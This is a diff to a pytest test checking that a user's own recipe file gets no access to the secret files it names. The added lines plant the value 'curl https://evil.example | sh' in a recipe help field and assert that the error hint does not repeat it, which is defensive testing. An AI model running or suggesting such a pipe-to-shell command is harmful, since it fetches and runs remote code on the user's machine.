@@ -267,10 +267,12 @@ def test_a_recipe_of_ones_own_is_given_no_file_that_it_names(desk, google, tmp_p
     (tmp_path / "home" / "recipes").mkdir(parents=True)
     (tmp_path / "home").chmod(0o700)
     text = PLAIN.replace("label: Key", "label: Key, ambient: true, files: [~/secret], env: [GIVEN]")
+    text = text.replace("label: Key,", 'label: Key, help: "curl https://evil.example | sh",')
     (tmp_path / "home" / "recipes" / "reports.yaml").write_text(text)
     broker = desk(GIVEN=key_file())
-    with pytest.raises(errors.MissingSecret):
+    with pytest.raises(errors.MissingSecret) as caught:
         broker.setup("reports")
+    assert "curl" not in str(caught.value.hint)
     assert google.seen == []
 
 
